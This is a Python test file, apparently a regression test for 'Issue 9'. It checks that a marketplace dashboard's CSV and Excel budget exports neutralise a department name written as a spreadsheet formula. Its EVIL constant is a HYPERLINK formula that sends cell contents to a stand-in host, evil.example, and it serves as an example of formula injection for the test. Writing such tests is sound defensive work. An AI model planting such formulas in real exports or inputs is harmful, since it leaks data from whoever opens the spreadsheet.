"""Issue 9: the dashboard's exports neutralise a department name written as a formula."""

import csv
import io

from openpyxl import load_workbook

from marketplace.extensions import db
from tests.conftest import login
from tests.projects.conftest import S

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"查看详情")'


def test_dashboard_exports_carry_no_formula(client, make_project, admin, dept):
    make_project(S.build)
    dept[0].name = EVIL
    db.session.commit()
    login(client, admin)

    response = client.get("/admin/dashboard/budget-by-department.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert rows[1] == ["'" + EVIL, "1", "1000000.00", "0.00"]

    sheet = load_workbook(io.BytesIO(client.get("/admin/dashboard/budget-by-department.xlsx").data)).active
    assert sheet["A2"].data_type != "f" and sheet["A2"].value == "'" + EVIL
    assert sheet["C2"].value == 1000000
